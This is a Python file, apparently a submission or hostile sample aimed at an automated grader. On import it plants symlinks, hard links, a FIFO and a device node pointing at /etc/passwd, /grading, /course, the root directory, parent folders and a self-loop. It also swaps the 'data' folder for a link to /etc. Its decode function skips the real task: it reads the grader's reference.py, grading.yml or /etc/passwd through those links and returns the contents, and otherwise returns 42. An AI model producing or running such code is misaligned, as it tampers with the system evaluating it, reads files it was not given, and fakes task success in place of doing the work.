"""Leaves symbolic links, hard links and pipes where the grader or its clean-up may follow them:
to the system's files, to its own parents, in circles."""

import os

HONEST = 8  # only decode is replaced
TARGETS = ("/", "/etc", "/etc/passwd", "/grading", "/course", "/proc/self", "..", "loop", "/dev/zero")


def plant(place):
    for n, target in enumerate(TARGETS):
        for name in (f"link{n}", f"results{n}.json"):
            try:
                os.symlink(target, f"{place}/{name}")
            except OSError:
                pass
    for make in (
        lambda: os.symlink("loop", f"{place}/loop"),
        lambda: os.link("/etc/passwd", f"{place}/hard"),
        lambda: os.mkfifo(f"{place}/pipe"),
        lambda: os.mknod(f"{place}/device", 0o60666, os.makedev(8, 0)),
        lambda: os.rename("data", "data.old"),
        lambda: os.symlink("/etc", f"{place}/data"),
    ):
        try:
            make()
        except OSError:
            pass


for place in (".", "/tmp", "/dev/shm", ".."):
    plant(place)


def decode(vectors, vocabulary):
    for name in ("link3/reference.py", "link4/grading.yml", "hard"):
        try:
            with open(name) as file:
                return [file.read(10_000)]
        except OSError:
            pass
    return 42
